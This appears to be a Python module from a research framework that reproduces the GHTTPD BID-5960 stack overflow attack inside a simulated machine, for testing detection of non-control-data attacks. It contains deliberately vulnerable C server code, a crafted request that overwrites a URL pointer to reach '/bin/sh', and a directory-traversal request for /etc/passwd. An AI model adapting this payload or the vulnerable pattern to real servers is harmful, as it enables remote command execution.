@@ -1,0 +1,150 @@
+"""Mini GHTTPD: the stack-overflow / URL-pointer-redirect attack (s5.1.2).
+
+The published vulnerability (BID-5960) is a 200-byte stack buffer in the
+logging path that an over-long HTTP request overflows.  The paper's
+**non-control-data** exploit does not touch the return address: it stops
+after overwriting a *URL pointer* that sits above the buffer in the frame,
+redirecting it -- after the ``"/.."`` policy check has already passed -- to
+an illegitimate path string planted later in the request
+(``/cgi-bin/../../../../bin/sh``).
+
+The analogue keeps that exact frame geometry: ``handle()`` checks the URL
+policy, then copies the whole request into a 200-byte buffer with the
+pointer cell 4 bytes above it, then dereferences the (now corrupted)
+pointer to serve the request.
+"""
+
+from __future__ import annotations
+
+from functools import lru_cache
+
+from ..attacks.scenarios import AttackScenario, NON_CONTROL_DATA
+from ..attacks.payloads import le32
+from ..isa.program import Executable
+from ..kernel.network import ScriptedClient
+from ..libc.build import build_program
+from .replay_support import calibrate_symbol_pointer
+
+GHTTPD_SOURCE = r"""
+int req_addr = 0;           /* calibration export: address of main's req[] */
+
+void serve_file(int fd, char *url) {
+    char path[336];
+    if (strncmp(url, "/cgi-bin/", 9) == 0) {
+        sprintf(path, "/var/www%s", url);
+        exec(path);
+        send_str(fd, "200 CGI executed\r\n");
+        return;
+    }
+    send_str(fd, "200 OK\r\n");
+}
+
+/*
+ * The vulnerable request handler (Log() in real GHTTPD): a 200-byte
+ * buffer receives an unbounded strcpy of the request; the URL pointer
+ * lives in the frame word directly above the buffer.
+ */
+void handle(int fd, char *req) {
+    char *urlptr[1];
+    char buf[200];
+    char *u;
+    urlptr[0] = req + 4;                    /* skip "GET " */
+    /* HTTP security policy: reject directory traversal -- checked BEFORE
+       the overflow, which is exactly what the attack exploits. */
+    if (strstr(urlptr[0], "/..")) {
+        send_str(fd, "403 Forbidden\r\n");
+        return;
+    }
+    strcpy(buf, req);                       /* BID-5960: 200-byte overflow */
+    u = urlptr[0];
+    serve_file(fd, u);
+}
+
+int main(void) {
+    int s;
+    int c;
+    int n;
+    char req[600];
+    s = server_listen(80);
+    if (s < 0) {
+        return 1;
+    }
+    while (1) {
+        c = accept(s);
+        if (c < 0) {
+            break;
+        }
+        n = recv(c, req, 599);
+        if (n > 0) {
+            req[n] = 0;
+            req_addr = req;
+            handle(c, req);
+        }
+        close(c);
+    }
+    return 0;
+}
+"""
+
+#: Byte offset of the URL-pointer cell within the request: "GET " (4) +
+#: 196 filler bytes fill the 200-byte buffer, then 4 pointer bytes.
+POINTER_OFFSET = 200
+
+#: Offset of the planted shell path inside the request: pointer (4 bytes)
+#: plus the NUL that stops strcpy right after the pointer cell.
+SHELL_STRING_OFFSET = POINTER_OFFSET + 5
+
+SHELL_STRING = b"/cgi-bin/../../../../bin/sh"
+
+
+def build_ghttpd() -> Executable:
+    return build_program(GHTTPD_SOURCE)
+
+
+@lru_cache(maxsize=1)
+def request_buffer_address() -> int:
+    """Address of ``main``'s request buffer, discovered by a benign run.
+
+    The simulated machine is fully deterministic, so the address observed
+    during calibration is the address the attack run will see.
+    """
+    return calibrate_symbol_pointer(
+        build_ghttpd(),
+        "_g_req_addr",
+        clients=lambda: [ScriptedClient([b"GET /index.html HTTP/1.0\r\n"])],
+    )
+
+
+def attack_request() -> bytes:
+    """The paper's request: ``GET AAAA...<ptr>\\0/cgi-bin/../../../../bin/sh``.
+
+    The pointer bytes redirect the URL pointer to the shell string planted
+    at a fixed offset inside this very request (a stack address, like the
+    paper's 0x7fff3e94).  The NUL after the pointer stops the strcpy so the
+    saved frame pointer and return address stay intact -- this attack
+    corrupts *no control data*.
+    """
+    target = request_buffer_address() + SHELL_STRING_OFFSET
+    filler = b"A" * (POINTER_OFFSET - 4)
+    return b"GET " + filler + le32(target) + b"\0" + SHELL_STRING + b"\0"
+
+
+def ghttpd_scenario() -> AttackScenario:
+    return AttackScenario(
+        name="ghttpd-url-pointer",
+        category=NON_CONTROL_DATA,
+        description="GHTTPD stack overflow redirects the URL pointer",
+        source=GHTTPD_SOURCE,
+        attack_input={
+            "clients": lambda: [ScriptedClient([attack_request()])],
+        },
+        benign_input={
+            "clients": lambda: [
+                ScriptedClient([b"GET /index.html HTTP/1.0\r\n"]),
+                ScriptedClient([b"GET /cgi-bin/../../etc/passwd HTTP/1.0\r\n"]),
+            ],
+        },
+        expected_alert_kind="load",
+        detected_by_control_data=False,
+        paper_ref="section 5.1.2 (GHTTPD)",
+    )
